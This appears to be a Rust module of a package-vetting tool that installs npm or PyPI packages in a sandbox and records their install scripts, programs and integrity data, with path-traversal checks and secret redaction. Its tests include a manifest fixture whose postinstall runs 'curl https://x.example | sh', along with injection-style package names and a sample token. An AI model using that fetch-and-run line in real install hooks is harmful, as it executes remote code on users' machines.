//! Brings a published package into a place that is thrown away, as `portcullis run` would install it: in a box with its
//! registry and nothing else, and without a script of its own.

use std::ffi::OsString;
use std::fs;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;

use portcullis_confine::Level;
use portcullis_confine::command::{self, Ecosystem, Preparation, PrepareError};
use portcullis_guard::launch::{Package as Words, Registry, Version, package};
use portcullis_guard::text::bounded;
use serde_json::Value;

use super::scratch::Scratch;
use crate::evidence::package::{Package, Published, Script};
use crate::evidence::source::LeftOut;

/// The longest script that is kept, in characters.
const LONG: usize = 500;
/// What is kept of an installer's last words, in characters.
const SAID: usize = 2_000;
/// Scripts that are kept.
const SCRIPTS: usize = 50;
/// The largest file of a package's own words that is read.
const MANIFEST: u64 = 8 << 20;
/// Files of a Python package that are looked at, and their bytes.
const FILES: usize = 20_000;
const BYTES: u64 = 64 << 20;
/// What npm runs when a package is installed.
const WHEN: [&str; 3] = ["preinstall", "install", "postinstall"];

/// A package that somebody asked for: `npm:NAME@VERSION`, `pypi:NAME==VERSION`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Asked {
    published: Published,
    name: String,
    version: String,
}

/// Why a text that begins like a package is none.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum NotAPackage {
    /// Its version is another one tomorrow.
    #[error("`{0}` names no one version: write `npm:NAME@1.2.3` or `pypi:NAME==1.2.3`")]
    Floats(String),
    /// It is no name that a registry has.
    #[error("`{0}` is no name of a package")]
    Name(String),
}

/// What came of it.
#[derive(Debug)]
pub struct Fetched {
    /// What it is.
    pub package: Package,
    /// Where its own source is, when it came.
    pub source: Option<PathBuf>,
    /// How its one program is started, when it has one, in words that a person would write.
    pub command: Vec<OsString>,
    /// Where it lies; everything in it goes with this.
    scratch: Scratch,
}

impl Fetched {
    /// Where packages are installed, for whoever starts it.
    #[must_use]
    pub fn packages(&self) -> PathBuf {
        self.scratch.path().join("packages")
    }
}

/// With what it is brought.
#[derive(Debug, Clone)]
pub struct Order {
    /// A `PATH` with `npm`, or with `uv` and `python3`.
    pub path: OsString,
    /// The person's home: the settings of their registry are there.
    pub home: Option<PathBuf>,
    /// As in [`portcullis_confine::Profile::launcher`].
    pub launcher: Option<PathBuf>,
    /// For all of it.
    pub time: Duration,
}

/// Whether a target begins like a package, and which one is meant.
#[must_use]
pub fn asked(target: &str) -> Option<Result<Asked, NotAPackage>> {
    let (published, launcher, rest) = match target.split_once(':')? {
        ("npm", rest) => (Published::Npm, "npx", rest),
        ("pypi", rest) => (Published::Pypi, "uvx", rest),
        _ => return None,
    };
    let unfit = || NotAPackage::Name(bounded(target, 100));
    let plain = |c: char| c.is_ascii_alphanumeric() || "@/._-+=".contains(c);
    let first = rest.chars().next().unwrap_or('-');
    if !rest.chars().all(plain) || !(first.is_ascii_alphanumeric() || first == '@') {
        return Some(Err(unfit()));
    }
    let words = [launcher.to_owned(), rest.to_owned()];
    Some(match package(&words) {
        Some(Words { registry: Registry::Npm | Registry::Python, name, version, .. })
            if !name.contains("..") && !name.contains("//") && name.len() < 215 =>
        {
            match version {
                Version::Exact(version) => Ok(Asked { published, name, version }),
                _ => Err(NotAPackage::Floats(bounded(target, 100))),
            }
        }
        _ => Err(unfit()),
    })
}

impl Asked {
    fn spec(&self) -> String {
        match self.published {
            Published::Npm => format!("{}@{}", self.name, self.version),
            Published::Pypi => format!("{}=={}", self.name, self.version),
        }
    }

    fn package(&self) -> command::Package {
        let ecosystem = match self.published {
            Published::Npm => Ecosystem::Npm,
            Published::Pypi => Ecosystem::Python,
        };
        command::Package { ecosystem, spec: self.spec(), program: None, args: Vec::new() }
    }

    /// Brings it. What goes wrong is in [`Package::failed`] and [`Package::unread`].
    ///
    /// # Errors
    /// When there is no place for it.
    pub fn fetch(&self, order: &Order) -> std::io::Result<Fetched> {
        let scratch = Scratch::new()?;
        let mut package = Package {
            published: self.published,
            name: self.name.clone(),
            version: self.version.clone(),
            integrity: None,
            packages: 0,
            failed: None,
            scripts: Vec::new(),
            programs: Vec::new(),
            unread: Vec::new(),
        };
        let store = scratch.path().join("packages");
        if let Err(why) = self.install(&store, order) {
            package.failed = Some(public(&why, scratch.path()));
            return Ok(Fetched { package, source: None, command: Vec::new(), scratch });
        }
        let installed = store.join(self.package().key());
        let source = match self.published {
            Published::Npm => npm(&installed, &mut package),
            Published::Pypi => pypi(&installed, &scratch.path().join("source"), &mut package),
        };
        let command = self.command(&package.programs);
        Ok(Fetched { package, source, command, scratch })
    }

    /// Into a store of its own, for no longer than there is time.
    fn install(&self, store: &Path, order: &Order) -> Result<(), String> {
        let (package, store, order) = (self.package(), store.to_owned(), order.clone());
        let time = order.time;
        let (done, came) = mpsc::channel();
        let work = move || {
            let with = Preparation {
                store: &store,
                path: &order.path,
                home: order.home.as_deref(),
                user: None,
                least: Level::Full,
                launcher: order.launcher.clone(),
                builds: false,
            };
            let outcome = match package.prepare(&with) {
                // That it starts nothing is no reason not to read it.
                Ok(_) | Err(PrepareError::NoProgram { .. }) => Ok(()),
                Err(error) => Err(error.to_string()),
            };
            // Nobody waits any more when the time was up.
            let _ = done.send(outcome);
        };
        let thread = std::thread::Builder::new().name("install".to_owned()).spawn(work);
        thread.map_err(|error| error.to_string())?;
        came.recv_timeout(time)
            .unwrap_or_else(|_| Err("it did not come in the time that there is".to_owned()))
    }

    /// A program of one name is started as a launcher starts it.
    fn command(&self, programs: &[String]) -> Vec<OsString> {
        let [program] = programs else { return Vec::new() };
        let words: Vec<String> = match self.published {
            Published::Npm => vec!["npx".to_owned(), "-y".to_owned(), self.spec()],
            Published::Pypi if *program == self.name => vec!["uvx".to_owned(), self.spec()],
            Published::Pypi => {
                vec!["uvx".to_owned(), "--from".to_owned(), self.spec(), program.clone()]
            }
        };
        words.into_iter().map(OsString::from).collect()
    }
}

/// What an installer said, as far as it is for others: lines that name where it was to lie tell nothing once that is gone.
fn public(said: &str, scratch: &Path) -> String {
    let place = scratch.to_string_lossy();
    let lines = said.lines().map(str::trim_end);
    let lines: Vec<&str> =
        lines.filter(|line| !line.is_empty() && !line.contains(&*place)).collect();
    bounded(&portcullis_guard::redact(&lines.join("\n")), SAID)
}

/// A file of a package's own words, when it is an ordinary one of a size that somebody wrote.
fn words(file: &Path) -> Option<String> {
    let about = fs::symlink_metadata(file).ok()?;
    let mut text = String::new();
    let open = || fs::File::open(file).ok()?.take(MANIFEST).read_to_string(&mut text).ok();
    (about.is_file() && about.len() <= MANIFEST).then(open)??;
    Some(text)
}

fn json(file: &Path) -> Option<Value> {
    serde_json::from_str(&words(file)?).ok()
}

/// What npm installed: its own words about what it did, and the manifests.
fn npm(installed: &Path, package: &mut Package) -> Option<PathBuf> {
    let home = installed.join("node_modules").join(&package.name);
    let Some(manifest) = json(&home.join("package.json")) else {
        let why = "its `package.json` cannot be read".to_owned();
        package.unread.push(LeftOut::of(package.name.clone(), why));
        return home.is_dir().then_some(home);
    };
    package.scripts = scripts(&package.name, &manifest, &home);
    package.programs = match manifest.get("bin") {
        Some(Value::Object(table)) => table.keys().cloned().collect(),
        Some(Value::String(_)) => vec![package.name.clone()],
        _ => Vec::new(),
    };
    let lock = json(&installed.join("node_modules/.package-lock.json")).unwrap_or_default();
    let packages = lock.get("packages").and_then(Value::as_object);
    let own = format!("node_modules/{}", package.name);
    package.packages = packages.map_or(1, serde_json::Map::len);
    for (place, about) in packages.into_iter().flatten() {
        if *place == own {
            let text = about.get("integrity").and_then(Value::as_str);
            package.integrity = text.map(|text| bounded(text, 200));
        } else if about.get("hasInstallScript") == Some(&Value::Bool(true)) && is_plain(place) {
            let folder = installed.join(place);
            let name = place.rsplit_once("node_modules/").map_or(place.as_str(), |(_, name)| name);
            let manifest = json(&folder.join("package.json")).unwrap_or_default();
            package.scripts.extend(scripts(name, &manifest, &folder));
        }
    }
    package.scripts.truncate(SCRIPTS);
    Some(home)
}

/// What npm would run for one package.
fn scripts(name: &str, manifest: &Value, folder: &Path) -> Vec<Script> {
    let script = |when: &str, command: &str| Script {
        package: bounded(name, 200),
        when: when.to_owned(),
        command: bounded(&portcullis_guard::redact(command), LONG),
    };
    let table = manifest.get("scripts");
    let text = |when: &&str| table.and_then(|it| it.get(when)).and_then(Value::as_str);
    let mut found: Vec<Script> =
        WHEN.iter().filter_map(|when| Some(script(when, text(when)?))).collect();
    // Without one, npm builds what has a file for it.
    if text(&"install").is_none() && folder.join("binding.gyp").is_file() {
        found.push(script("install", "node-gyp rebuild"));
    }
    found
}

/// What uv installed: programs, and the package's own files, which are copied out of the environment that they share
/// with what they need.
fn pypi(installed: &Path, to: &Path, package: &mut Package) -> Option<PathBuf> {
    let programs = fs::read_dir(installed.join("bin")).into_iter().flatten().flatten();
    package.programs = programs.map(|it| it.file_name().to_string_lossy().into_owned()).collect();
    package.programs.sort();
    let libraries = installed.join("tools").join(&package.name).join("lib");
    let pythons = fs::read_dir(libraries).into_iter().flatten().flatten();
    let site = pythons.map(|it| it.path().join("site-packages")).find(|it| it.is_dir())?;
    let entries: Vec<String> = fs::read_dir(&site)
        .into_iter()
        .flatten()
        .flatten()
        .map(|it| it.file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".dist-info"))
        .collect();
    package.packages = entries.len();
    let own = format!("{}-", package.name.replace('-', "_"));
    let own = entries.iter().find(|name| name.to_ascii_lowercase().starts_with(&own))?;
    let record = words(&site.join(own).join("RECORD"))?;
    let left = copy(&record, &site, to);
    package.unread.extend(left.map(|why| LeftOut::of(package.name.clone(), why)));
    to.is_dir().then(|| to.to_owned())
}

/// Whether a place that others wrote down leads downwards only.
fn is_plain(place: &str) -> bool {
    Path::new(place).components().all(|it| matches!(it, std::path::Component::Normal(_)))
}

/// Copies the files that a package's record names, and says why that is not all of them.
fn copy(record: &str, site: &Path, to: &Path) -> Option<String> {
    let mut bytes = 0_u64;
    for (at, line) in record.lines().enumerate() {
        let name = line.split(',').next().unwrap_or_default();
        let source = name.ends_with(".py");
        if !source || !is_plain(name) {
            continue;
        }
        if at >= FILES || bytes > BYTES {
            return Some("it has more source than is looked at".to_owned());
        }
        let (from, into) = (site.join(name), to.join(name));
        let Ok(about) = fs::symlink_metadata(&from) else { continue };
        let made = into.parent().is_some_and(|folder| fs::create_dir_all(folder).is_ok());
        if about.is_file() && made && fs::copy(&from, &into).is_ok() {
            bytes = bytes.saturating_add(about.len());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_package_has_one_version() {
        let name = |target: &str| match asked(target) {
            Some(Ok(it)) => Some(format!("{} {}", it.name, it.version)),
            _ => None,
        };
        assert_eq!(name("npm:@a/b@1.2.3").as_deref(), Some("@a/b 1.2.3"));
        assert_eq!(name("pypi:Mcp_Server==2025.7.1").as_deref(), Some("mcp-server 2025.7.1"));
        for target in ["npm:a", "npm:a@latest", "npm:a@^1.0.0", "npm:a@1", "pypi:a", "pypi:a>=1"] {
            assert!(matches!(asked(target), Some(Err(_))), "{target}");
        }
        for target in [
            "npm:--prefix@1.0.0",
            "npm:../x@1.0.0",
            "npm:a b@1.0.0",
            "npm:https://x/y@1.0.0",
            "npm:",
        ] {
            assert!(matches!(asked(target), Some(Err(NotAPackage::Name(_)))), "{target}");
        }
        for target in ["./npm", "src", "C:x", "cargo:a@1.0.0"] {
            assert_eq!(asked(target), None, "{target}");
        }
    }

    #[test]
    fn what_npm_would_run_is_told() {
        let folder = tempfile::tempdir().unwrap();
        let manifest: Value = serde_json::json!({
            "scripts": { "test": "x", "postinstall": "curl https://x.example | sh", "prepare": "tsc" }
        });
        let found = scripts("a", &manifest, folder.path());
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].when.as_str(), found[0].package.as_str()), ("postinstall", "a"));
        fs::write(folder.path().join("binding.gyp"), "{}").unwrap();
        assert_eq!(scripts("a", &manifest, folder.path())[1].command, "node-gyp rebuild");
    }

    #[test]
    fn an_installers_words_name_no_place_that_is_gone() {
        let said = "npm error 404 Not Found\n\nnpm error log: /tmp/x/_logs/a.log\ntoken=ghp_0123456789abcdefghijklmnopqrstuvwxyz";
        let told = public(said, Path::new("/tmp/x"));
        assert!(told.starts_with("npm error 404 Not Found\ntoken="), "{told}");
        assert!(!told.contains("0123456789abcdef") && !told.contains("/tmp"), "{told}");
    }

    #[test]
    fn a_record_that_leads_out_brings_nothing() {
        let place = tempfile::tempdir().unwrap();
        let (site, to) = (place.path().join("site"), place.path().join("to"));
        fs::create_dir_all(site.join("a")).unwrap();
        fs::write(place.path().join("out.py"), "x = 1\n").unwrap();
        fs::write(site.join("a/in.py"), "x = 1\n").unwrap();
        std::os::unix::fs::symlink(place.path().join("out.py"), site.join("a/link.py")).unwrap();
        let out = place.path().join("out.py");
        let record =
            format!("../out.py,,\n{},,\na/link.py,,\na/in.py,,\na/gone.py,,\n", out.display());
        assert_eq!(copy(&record, &site, &to), None);
        let found: Vec<_> = fs::read_dir(to.join("a")).unwrap().flatten().collect();
        assert_eq!(found.len(), 1);
        assert!(!place.path().join("to/out.py").exists() && to.join("a/in.py").is_file());
    }
}
